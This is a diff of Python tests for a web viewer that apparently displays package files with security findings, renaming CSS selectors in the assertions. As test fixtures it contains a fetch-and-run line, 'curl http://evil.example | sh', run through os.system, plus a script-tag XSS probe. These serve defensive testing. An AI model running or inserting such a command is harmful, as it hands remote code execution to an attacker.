@@ -38,8 +38,8 @@ def test_a_file_opens_with_its_tree_and_what_was_found(desk: Desk) -> None:
     desk.office.approved(SPAM)
     page = desk.visitor("dev").get(HERE)
     assert page.title == SPAM.filename
-    folders = [re.sub(r"\d+ ?findings?", "N found", one) for one in page.all(".tree a")]
-    assert folders == ["▸ spam/ ✕N found native 5 files", "▸ spam-1.0.dist-info/ 3 files"]
+    folders = [re.sub(r"\d+ ?findings?", "N found", one) for one in page.all(".shelf a")]
+    assert folders == ["▸ spam/ ✕N found 5 files", "▸ spam-1.0.dist-info/ 3 files"]
     assert page.links()["Line 4"] == f"{HERE}?path=spam%2F__init__.py&line=4#L4"
 
 
@@ -47,21 +47,21 @@ def test_a_member_is_shown_line_by_line_with_findings_at_their_lines(desk: Desk)
     desk.office.approved(SPAM)
     page = desk.visitor("dev").get(f"{HERE}?path=spam/__init__.py&line=4")
     assert page.title == "spam/__init__.py"
-    assert page.all(".lines .code") == [
+    assert page.all(".read .code") == [
         "import os",
         "",
         "",
         "os.system('curl http://evil.example | sh')",
     ]
     assert page.html.css("#L4.has-finding") != []
-    assert page.html.css("#L4 .note") != []
+    assert page.html.css("#L4 .said-here") != []
     assert page.says("#L1 .ck") == "import"
 
 
 def test_markup_in_a_file_is_text_and_hidden_characters_are_named(desk: Desk) -> None:
     desk.office.approved(SPAM)
     page = desk.visitor("dev").get(f"{HERE}?path=spam/page.html")
-    assert page.all(".lines .code") == ["<script>alert(1)</script>", "U+202E</code>"]
+    assert page.all(".read .code") == ["<script>alert(1)</script>", "U+202E</code>"]
     assert page.html.css("main script") == []
     assert page.headers["content-type"] == "text/html; charset=utf-8"
 
@@ -77,9 +77,9 @@ def test_a_long_file_is_shown_in_parts(desk: Desk) -> None:
     desk.office.approved(SPAM)
     dev = desk.visitor("dev")
     first = dev.get(f"{HERE}?path=spam/big.txt")
-    assert len(first.html.css(".lines > li")) == 1500
+    assert len(first.html.css(".read > li")) == 1500
     then = dev.get(first.links()["From line 1501 on"])
-    assert then.says(".lines > li").startswith("1501")
+    assert then.says(".read > li").startswith("1501")
     assert then.links()["Lines 1 to 1500"] == f"{HERE}?path=spam%2Fbig.txt&first=1"
     asked = dev.get(f"{HERE}?path=spam/big.txt&line=4000")
     assert asked.html.css("#L4000.is-asked") != []
